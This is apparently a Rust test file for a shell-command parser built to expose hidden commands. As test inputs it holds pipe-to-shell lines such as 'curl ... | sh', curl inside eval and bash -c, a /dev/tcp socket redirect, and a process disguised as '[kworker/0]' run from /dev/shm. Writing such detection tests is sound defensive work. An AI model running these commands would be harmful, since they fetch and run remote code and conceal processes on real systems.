use super::*;
use bstr::ByteSlice;

/// Each command on a line of its own: its words, then what it reads and stands inside of.
fn told(line: &str) -> Vec<String> {
    commands(line.as_bytes())
        .iter()
        .map(|command| {
            let words: Vec<String> = command.words.iter().map(|word| word.to_str_lossy().into_owned()).collect();
            let reads = command.reads.clone().map(|range| match range.len() {
                1 => format!(" <{}", range.start),
                _ => format!(" <{range:?}"),
            });
            let reads = reads.unwrap_or_default();
            let inside = command.inside.map(|(index, how)| format!(" in {index} {how:?}")).unwrap_or_default();
            let background = if command.background { " &" } else { "" };
            format!("{}{reads}{inside}{background}", words.join("_"))
        })
        .collect()
}
#[track_caller]
fn check(line: &str, expected: &[&str]) {
    assert_eq!(told(line), expected, "{line}");
}
#[track_caller]
fn check_programs(line: &str, expected: &[&str]) {
    let programs: Vec<Text> = commands(line.as_bytes()).iter().flat_map(ShellCommand::programs).collect();
    assert_eq!(programs, expected.iter().map(|path| Text::from(*path)).collect::<Vec<_>>(), "{line}");
}

#[test]
fn lists_and_pipes() {
    check("a; b && c || d & e", &["a", "b", "c", "d &", "e"]);
    check("curl -s http://x | sh", &["curl_-s_http://x", "sh <0"]);
    check("a |\n b | c\nd", &["a", "b <0", "c <1", "d"]);
    check("(a; b) | c", &["a", "b", "c <0..2"]);
    check("{ a; b; } | c", &["a", "b", "c <0..2"]);
    check("# nothing\n  a # not b\n", &["a"]);
    check("a \\\n b", &["a_b"]);
}
#[test]
fn quotes_are_removed() {
    check(r#"a 'b c' "d $e" f\ g"#, &["a_b c_d $e_f g"]);
    check(r#""/tmp/x" $'\x41\102\n'"#, &["/tmp/x_AB\n"]);
    check(r#"c''u"r"l x"#, &["curl_x"]);
    check("a 'unclosed | b", &["a_unclosed | b"]);
}
#[test]
fn what_stands_inside() {
    check("sh -c 'a; b'", &["sh_-c_a; b", "a in 0 Code", "b in 0 Code"]);
    let fetched = "curl_-fsSL_x in 0 Substitution";
    let code = ["$(curl -fsSL x) in 0 Code", "curl_-fsSL_x in 2 Substitution"];
    check(r#"bash -c "$(curl -fsSL x)""#, &["bash_-c_$(curl -fsSL x)", fetched, code[0], code[1]]);
    check("x=`id -u` y", &["y", "id_-u in 0 Substitution"]);
    check("bash <(curl x)", &["bash_<(curl x)", "curl_x in 0 Process"]);
    check("eval a b", &["eval_a_b", "a_b in 0 Code"]);
    check("su - bob -c '/x/y z'", &["su_-_bob_-c_/x/y z", "/x/y_z in 0 Code"]);
    check("sh <<E\na\nE\nb", &["sh", "a in 0 Code", "b"]);
    check("cat <<E\na\nE\nb", &["cat", "b"]);
}
#[test]
fn reserved_words_are_no_commands() {
    check("if [ -x /a ]; then /a; fi", &["[_-x_/a_]", "/a"]);
    check("for f in a b; do /x $f; done", &["/x_$f"]);
    check("while ! /a; do b; done", &["/a", "b"]);
    check("{ a; b; }", &["a", "b"]);
}
#[test]
fn what_hides_commands_from_a_reader() {
    check("((x=1<<2))\ncurl x | sh", &["x=1", "curl_x", "sh <1"].map(|c| if c == "x=1" { "" } else { c }));
    check(": <<E\na | b", &[":", "a", "b <1"]);
    check(": ${x:-$(a b)}", &[":_${x:-$(a b)}", "a_b in 0 Substitution"]);
    check("function f { a; }; f", &["a", "f"]);
    check("coproc a | b", &["a", "b <0"]);
    check("time -p a", &["a"]);
}
#[test]
fn variables_of_the_same_text() {
    check("x=a; $x b", &["", "a_b"]);
    check("x='a b'; $x; \"$x\"; '$x'; ${y:-$x}", &["", "a_b", "a b", "$x", "${y:-$x}"]);
    check("x=a; x+=b; c$x${x}d", &["", "", "cababd"]);
    check("x=(a 'b c'\n d); \"${x[@]}\" e", &["", "a_b_c_d_e"]);
    check("x=a; x=$(b); $x", &["", "", "b in 1 Substitution", "$x"]);
    check("export x=a; eval \"$x b\"", &["export_x=a", "eval_a b", "a_b in 1 Code"]);
    check("a${IFS}b", &["a_b"]);
    check("x=; $x a; \"$x\" b", &["", "a", "_b"]);
    let grows = "a=x".to_owned() + &"; a=$a$a".repeat(1_000) + "; $a b";
    assert_eq!(commands(grows.as_bytes()).last().unwrap().words.last().unwrap(), "b");
}
#[test]
fn groups_and_functions() {
    check("a | { b; c; } | d", &["a", "b <0", "c <0", "d <1..3"]);
    check("while a; do b; done < c | d", &["a <2", "b <2", "", "d <0..3"]);
    check("{ a; b; } > c; d", &["a", "b", " <0..2", "d"]);
    check("if a; then b; fi | c; d", &["a", "b", "c <0..2", "d"]);
    check("case a in x) b;; (y) c;; esac | d", &["b", "y", "c", "d <0..3"]);
    check("a | sh -c 'b | c; d'", &["a", "sh_-c_b | c; d <0", "b <0 in 1 Code", "c <2 in 1 Code", "d <0 in 1 Code"]);
    let all = commands(b"f() { a; b; }; f | c; function g { d; }; g");
    let calls: Vec<_> = all.iter().filter_map(|command| command.calls.clone()).collect();
    assert_eq!(calls, [1..3, 5..6]);
}
#[test]
fn commands_that_a_shell_is_told() {
    check("echo -e 'a\\tb' | sh", &["echo_-e_a\\tb", "sh <0", "a_b <0 in 1 Code"]);
    check("printf 'a %s\\n' b c | at now", &["printf_a %s\\n_b_c", "at_now <0", "a_b <0 in 1 Code", "c <0 in 1 Code"]);
    check("sh <<< 'a b'", &["sh", "a_b in 0 Code"]);
    check("echo a | sh x; echo b | cat", &["echo_a", "sh_x <0", "echo_b", "cat <2"]);
    check("bash <(echo a)", &["bash_<(echo a)", "echo_a in 0 Process", "a in 0 Code"]);
    check("sh <<E | b\na\nE\n", &["sh", "a in 0 Code", "b <0"]);
}
#[test]
fn nested_code_is_read_once() {
    let deep = (0..6).fold("x".repeat(1000), |code, _| format!("flock a flock b flock c flock d -c \"{code}\""));
    assert!(commands(deep.as_bytes()).len() < 100);
}
#[test]
fn redirects_and_assignments() {
    let all = commands(b"A=1 PATH=/x:$PATH a >/dev/null 2>&1 <in 3<>/dev/tcp/192.0.2.1/80");
    let command = all.first().unwrap();
    assert_eq!(command.assignments.len(), 2);
    let redirects: Vec<String> =
        command.redirects.iter().map(|r| format!("{} {}", r.operator.lossy(), r.target.lossy())).collect();
    assert_eq!(redirects, ["> /dev/null", "2>& 1", "< in", "3<> /dev/tcp/192.0.2.1/80"]);
}
#[test]
fn programs_behind_wrappers_and_interpreters() {
    check_programs("nice -n 19 ionice -c3 /srv/a b", &["nice", "/srv/a"]);
    check_programs("env -i A=b timeout 5 /srv/a", &["env", "/srv/a"]);
    check_programs("/usr/bin/flock -n /run/x.lock /srv/a", &["/usr/bin/flock", "/srv/a"]);
    check_programs("sudo -u www-data php -f /srv/a.php", &["sudo", "php", "/srv/a.php"]);
    check_programs("python3 -u /srv/a.py x", &["python3", "/srv/a.py"]);
    check_programs(". /etc/default/x", &["/etc/default/x"]);
    check_programs("exec -a '[kworker/0]' /dev/shm/k", &["exec", "/dev/shm/k"]);
    check_programs(
        "start-stop-daemon --start --pidfile /run/x --exec /usr/sbin/x -- -d",
        &["start-stop-daemon", "/usr/sbin/x"],
    );
    check_programs("setsid nohup bash -c '/tmp/x &'", &["setsid", "bash", "/tmp/x"]);
    check_programs("screen -dmS x /tmp/x -a", &["screen", "/tmp/x"]);
    check_programs("tmux new-session -d -s x /tmp/x", &["tmux", "/tmp/x"]);
    check_programs("/lib64/ld-linux-x86-64.so.2 /tmp/x", &["/lib64/ld-linux-x86-64.so.2", "/tmp/x"]);
    for loader in ["/tmp/ld-2.31.so", "/lib/ld-musl-x86_64.so.1", "/lib/ld64.so.2", "/usr/bin/ld.so"] {
        check_programs(&format!("{loader} --inhibit-rpath x --argv0 cron /tmp/x -f"), &[loader, "/tmp/x"]);
    }
    check_programs("ld -shared /tmp/x; ldd /tmp/x", &["ld", "ldd"]);
    check_programs("find / -exec /tmp/x {} ;", &["find", "/tmp/x"]);
}
#[test]
fn mutated_lines_never_panic() {
    let seeds: [&[u8]; 4] = [
        b"*/5 x=$(id) sh -c \"a | b `c \\` d`\" >/dev/null 2>&1 & # e\nfor i in 1 2; do f \"$(g (h) 'i')\"; done",
        b"if test -x '/usr/sbin/anacron' || ( cd / && run-parts --report /etc/cron.daily ); then $'\\x41\\101'; fi",
        b"f() { x=(a b); x+=$y; \"${x[@]}\"; }; { f; } < <(g) | (read l; echo '$l' | sh); x=$x$x; case $x in (a) b;; esac",
        b"bash <<-'EOF' | tee /x\n\tcurl ${A:-b} $((1+2)) <(d)\nEOF\neval \"$(curl -s x)\"; su - b -c 'a b'",
    ];
    crate::mutate::check(&seeds, |line| {
        commands(line).iter().for_each(|command| drop(command.programs()));
        true
    });
}
#[test]
fn what_never_closes_ends() {
    for line in [
        "$(".repeat(20_000),
        "`\\`".repeat(20_000),
        "sh -c '".repeat(5_000),
        "<(\"".repeat(20_000),
        "((".repeat(50_000),
        "{ ".repeat(20_000),
        "x=(a ".repeat(20_000),
        "f() { f; } | sh; echo f | f; ".repeat(2_000),
        "{ echo a | ".repeat(5_000) + &"sh; } | sh; ".repeat(5_000),
        "while a | ".repeat(5_000) + &"done < x | sh;".repeat(5_000),
        "echo 'echo a | sh' | sh | at now;".repeat(2_000),
    ] {
        assert!(commands(line.as_bytes()).len() <= MAX_COMMANDS);
    }
}
